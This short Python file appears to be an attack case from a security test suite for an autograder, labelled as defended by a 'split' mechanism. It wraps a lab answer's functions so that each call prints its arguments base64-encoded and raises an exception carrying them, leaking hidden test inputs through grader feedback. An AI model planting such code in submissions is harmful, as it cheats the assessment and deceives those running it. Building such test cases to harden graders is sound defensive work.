# attack: wrap the answer so that every call prints, and raises an exception whose message carries, that call's arguments base64-encoded (marked DTLEAK): a grader that passes student text on would show the student, in feedback and Gradescope's results.json, what the hidden tests ask
# defended-by: split
# needs: Lab 01's ring_all_reduce, called in ranks by its hidden tests (the error comes back through launch, as reported)
import base64 as _b64


def _dtleak(_fn):
    def _wrapped(*args, **kwargs):
        _secret = "DTLEAK:" + _b64.b64encode(repr((args, kwargs)).encode()).decode()
        print(_secret)
        raise ValueError(_secret)
    return _wrapped


for _name in ("add", "ring_all_reduce"):  # the synthetic lab's answer, Lab 01's
    if callable(globals().get(_name)):
        globals()[_name] = _dtleak(globals()[_name])
